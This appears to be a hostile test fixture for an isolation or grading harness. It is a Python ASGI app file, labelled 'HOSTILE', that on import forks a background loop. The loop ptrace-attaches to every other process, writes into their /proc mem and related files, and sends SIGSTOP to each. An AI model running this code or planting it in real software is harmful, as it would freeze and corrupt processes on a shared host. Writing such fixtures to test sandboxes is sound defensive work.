# HOSTILE: stops, traces and writes into all others, again and again
# not yet or does not start or too slow, at most 0
import contextlib
import ctypes
import os
import signal
import time

libc = ctypes.CDLL(None)
if os.fork() == 0:
    os.setsid()
    while True:
        for pid in {int(name) for name in os.listdir("/proc") if name.isdigit()} - {1, os.getpid(), os.getppid()}:
            libc.ptrace(16, pid, 0, 0)
            for name in ("mem", "oom_score_adj", "clear_refs", "timerslack_ns"):
                with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "r+b", buffering=0) as file:
                    file.write(b"1")
            with contextlib.suppress(OSError):
                os.kill(pid, signal.SIGSTOP)
        time.sleep(0.01)


async def app(scope, receive, send):
    if scope["type"] == "http":
        await send({"type": "http.response.start", "status": 401, "headers": []})
        await send({"type": "http.response.body", "body": b"{}"})
